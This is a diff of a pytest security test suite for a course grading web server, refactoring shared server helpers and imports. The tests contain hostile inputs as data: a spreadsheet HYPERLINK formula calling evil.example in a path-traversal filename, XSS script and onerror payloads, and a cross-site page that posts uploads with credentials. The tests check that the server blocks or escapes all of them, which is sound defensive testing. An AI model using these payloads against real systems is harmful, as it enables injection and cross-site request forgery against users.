@@ -17,7 +17,12 @@ a real SQLite file:
 `req` and the helpers over it take either; every request has a timeout."""
 
 import asyncio
+import base64
+import csv
+import hashlib
 import http.client
+import http.server
+import inspect
 import json
 import re
 import socket
@@ -31,12 +36,19 @@ from pathlib import Path
 import anyio
 import h11
 import pytest
+from conftest import SUBMISSIONS, Launched, free_port
 from starlette.testclient import TestClient
+from test_serve_http import CHROMIUM, Browser
 
 import grader.serve.course as serving
-from conftest import Launched, free_port
+from grader import __version__
+from grader.core.results import Result
+from grader.report.files import render_json
 from grader.serve.app import create_app
-from grader.serve.store import DONE, QUEUED, REPLACED, Accepted, Refused, Rules, Store
+from grader.serve.export import export_class
+from grader.serve.fanout import DROPPED, WATCHER_QUEUE, Fanout
+from grader.serve.grades import StoredGrade
+from grader.serve.store import DONE, QUEUED, REPLACED, Rules, Store
 
 EXERCISE = "bias_gelu_fused"
 SRC = b"__global__ void k() {}\n"
@@ -69,7 +81,29 @@ class Answer:
         return json.loads(self.body)
 
 
-class Attacked:
+class Server:
+    """What Attacked and InProcess share: a request as a client writes it, the store of their folder."""
+
+    folder: Path
+    host: str                 # what the client sends as Host (an Origin naming this server names it)
+
+    def send(self, method: str, path: str, headers: dict, body: bytes | None) -> Answer:
+        raise NotImplementedError
+
+    def request(self, method: str, path: str, *, token: str | None = None, cookie: str | None = None,
+                body: bytes | None = None, headers: dict | None = None) -> Answer:
+        h = dict(headers or {})
+        if token is not None:
+            h["Authorization"] = f"Bearer {token}"
+        if cookie is not None:
+            h["Cookie"] = cookie
+        return self.send(method, path, h, body)
+
+    def store(self) -> Store:
+        return Store(self.folder)
+
+
+class Attacked(Server):
     """A course server without a grading worker (uploads stay queued unless a test moves them with
     the store's own calls), its log in folder/server.log."""
 
@@ -94,9 +128,6 @@ class Attacked:
 
     def stop(self) -> None:
         self.launched.stop()
-
-    def store(self) -> Store:
-        return Store(self.folder)
 
 
 AS_SENT = b"x-test-target"      # InProcess's request target as written, put back as uvicorn reads it
@@ -130,7 +161,7 @@ def as_uvicorn_reads(app):
     return asgi
 
 
-class InProcess:
+class InProcess(Server):
     """The app Attacked serves (create_app, the same Settings), run in this process by Starlette's
     TestClient: for the tests of what a handler answers. Its host is what the client sends (`Host:
     testserver`), so an Origin or a Referer means what it does against a real server; redirects are
@@ -167,18 +198,10 @@ class InProcess:
         finally:
             self.patched.undo()
 
-    def store(self) -> Store:
-        return Store(self.folder)
 
-
-def req(server: Attacked | InProcess, method: str, path: str, *, token: str | None = None, cookie: str | None = None,
-        body: bytes | None = None, headers: dict | None = None) -> Answer:
-    h = dict(headers or {})
-    if token is not None:
-        h["Authorization"] = f"Bearer {token}"
-    if cookie is not None:
-        h["Cookie"] = cookie
-    return server.send(method, path, h, body)
+def req(server: Server, method: str, path: str, **how) -> Answer:
+    """server.request (how: token, cookie, body, headers), on either server."""
+    return server.request(method, path, **how)
 
 
 def multipart(*parts: tuple[str, str | None, bytes], boundary: str = "attackboundary42") -> tuple[bytes, str]:
@@ -193,12 +216,12 @@ def multipart(*parts: tuple[str, str | None, bytes], boundary: str = "attackboun
     return out + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"
 
 
-def api_upload(server: Attacked | InProcess, token: str, data: bytes = SRC, filename: str = "k.cu", extra=()) -> Answer:
+def api_upload(server: Server, token: str, data: bytes = SRC, filename: str = "k.cu", extra=()) -> Answer:
     body, kind = multipart(("file", filename, data), *extra)
     return req(server, "POST", "/api/submissions", token=token, body=body, headers={"Content-Type": kind})
 
 
-def csrf_of(server: Attacked | InProcess, token: str) -> str:
+def csrf_of(server: Server, token: str) -> str:
     page = req(server, "GET", "/", cookie=f"grader_session={token}")
     return re.search(r'name="csrf" value="([0-9a-f]+)"', page.text).group(1)
 
@@ -206,11 +229,6 @@ def csrf_of(server: Attacked | InProcess, token: str) -> str:
 def stored_grade(report_html: str = "", status: str = "compile_error"):
     """A real result.json text (as a worker stores it) of a grade that did not build, as the store takes
     it (serve/grades.StoredGrade), with report_html for its report."""
-    from grader import __version__
-    from grader.core.results import Result
-    from grader.report.files import render_json
-    from grader.serve.grades import StoredGrade
-
     text = render_json(Result(exercise=EXERCISE, submission={"path": "k.cu", "sha256": "0" * 64}, backend="emulator",
                               status=status, grader_version=__version__, message="error: expected ';'"))
     return StoredGrade(text, "", report_html, status, None, None, None)
@@ -392,7 +410,8 @@ def test_the_upload_form_refuses_a_missing_foreign_or_cross_site_csrf_token(cour
     # the alias form and sign-out: the same
     alias = urllib.parse.urlencode({"csrf": mine, "alias": "forged alias"}).encode()
     form = {"Content-Type": "application/x-www-form-urlencoded"}
-    assert req(server, "POST", "/alias", cookie=cookie, body=alias, headers={**form, "Origin": "https://evil.example"}).status == 403
+    assert req(server, "POST", "/alias", cookie=cookie, body=alias,
+               headers={**form, "Origin": "https://evil.example"}).status == 403
     assert req(server, "POST", "/logout", cookie=cookie, body=b"csrf=" + theirs.encode(), headers=form).status == 403
     # the page's own form, from the page's origin, is taken
     body, kind = multipart(("csrf", None, mine.encode()), ("file", "k.cu", SRC))
@@ -556,9 +575,6 @@ def test_html_and_script_in_identifiers_filenames_and_aliases_are_escaped(tmp_pa
         assert doc.headers["Content-Type"].startswith("application/json") and doc.headers["X-Content-Type-Options"] == "nosniff"
         assert HOSTILE in {r["student"] for r in doc.json()["students"]}       # kept as given, escaped where shown
         # the class report's own sorting script runs (allowed by its hash), no other inline script would
-        import base64
-        import hashlib
-
         script_src = pages[4].headers["Content-Security-Policy"].split("script-src", 1)[1].split(";")[0]
         assert "unsafe-inline" not in script_src and "sandbox" not in pages[4].headers["Content-Security-Policy"]
         inline = re.findall(r"<script>(.*?)</script>", pages[4].text, re.S)
@@ -625,21 +641,16 @@ def test_a_served_report_runs_no_script_in_the_servers_origin(course):
 
 
 def test_the_export_writes_no_formula_and_no_path_a_student_chose(tmp_path):
-    from grader.serve.course import clean_name
-    from grader.serve.export import export_class
-
     Store(tmp_path).close()
     store = Store(tmp_path)
     store.set_setting("exercise", EXERCISE)
     store.issue("ann")
-    got = store.accept("ann", clean_name('../../=HYPERLINK("http://evil.example/"&A1).cu'), SRC, Rules())
+    got = store.accept("ann", serving.clean_name('../../=HYPERLINK("http://evil.example/"&A1).cu'), SRC, Rules())
     store.claim_wave()
     store.finish(got.id, stored_grade("<p>r</p>"))
     store.close()
     out = tmp_path / "out"
     export_class(tmp_path, out=out)
-    import csv
-
     for name in ("summary.csv", "gradebook.csv"):
         with open(out / name, newline="") as f:
             cells = [c for row in csv.reader(f) for c in row]
@@ -651,8 +662,6 @@ def test_the_export_writes_no_formula_and_no_path_a_student_chose(tmp_path):
 def test_a_real_grade_quoting_script_in_the_source_serves_it_escaped_and_sandboxed(tmp_path):
     """The one real grade here (compile_error.cu on the emulator, a couple of seconds): the line the
     compiler quotes holds `</script><script>` and an inline handler."""
-    from conftest import SUBMISSIONS
-
     people = issue(tmp_path, "ann")
     source = (SUBMISSIONS / "compile_error.cu").read_text().replace(
         "+ colls;", "+ colls; // </script><script>location='/pwned'</script><img src=x onerror=alert(1)>")
@@ -762,8 +771,6 @@ def test_a_body_that_never_ends_stalls_nothing_and_times_out(tmp_path):
 
 
 def test_an_event_stream_never_read_is_bounded_and_stalls_no_one(tmp_path):
-    from grader.serve.fanout import DROPPED, WATCHER_QUEUE, Fanout
-
     people = issue(tmp_path, "ann", "bob")
     store = Store(tmp_path)
     ids = [store.accept(s, "k.cu", SRC, Rules()).id for s in ("ann", "bob")]
@@ -908,15 +915,10 @@ def test_token_and_csrf_comparisons_are_constant_time():
     """Read from the code: a token is looked up by its sha256 (an attacker's timing learns bits of
     a hash of their own guess, nothing of a stored token), and the CSRF token is compared with
     hmac.compare_digest."""
-    import inspect
-
-    from grader.serve.course import Course
-    from grader.serve.store import Store as S
-
-    who = inspect.getsource(S.who)
+    who = inspect.getsource(Store.who)
     assert "token_hash(token)" in who and "WHERE hash = ?" in who
-    assert "hmac.compare_digest" in inspect.getsource(Course.csrf_ok)
-    assert "secrets.token_urlsafe(32)" in inspect.getsource(S.issue)
+    assert "hmac.compare_digest" in inspect.getsource(serving.Course.csrf_ok)
+    assert "secrets.token_urlsafe(32)" in inspect.getsource(Store.issue)
 
 
 # --- in a browser: another site on the same machine -----------------------------------------------------
@@ -925,7 +927,8 @@ HOSTILE_PAGE = """<!DOCTYPE html><html><body>
 <form id="signin" method="post" action="{server}/login"><input name="token" value="{eve}"></form>
 <script>
 window.tried = 0;
-function file() {{ var f = new FormData(); f.append('csrf', 'guessed'); f.append('file', new File(['// planted'], 'planted.cu')); return f; }}
+function file() {{ var f = new FormData(); f.append('csrf', 'guessed');
+                   f.append('file', new File(['// planted'], 'planted.cu')); return f; }}
 function done() {{ window.tried += 1; }}
 fetch('{server}/upload', {{method: 'POST', body: file(), credentials: 'include', mode: 'no-cors'}}).then(done, done);
 fetch('{server}/api/submissions', {{method: 'POST', body: file(), credentials: 'include', mode: 'no-cors'}}).then(done, done);
@@ -938,10 +941,6 @@ def test_in_chromium_another_site_on_the_same_host_can_neither_sign_in_nor_submi
     browser, so SameSite=Strict sends the cookie to it... and from it) opened by a signed-in
     student: its forms and scripts plant nothing, sign the student in as no one else; a report
     quoting `<script>` runs nothing."""
-    import http.server
-
-    from test_serve_http import CHROMIUM, Browser
-
     if CHROMIUM is None:
         pytest.skip("no Chromium here (apt-get install chromium)")
     people = issue(tmp_path, "ann", "eve")
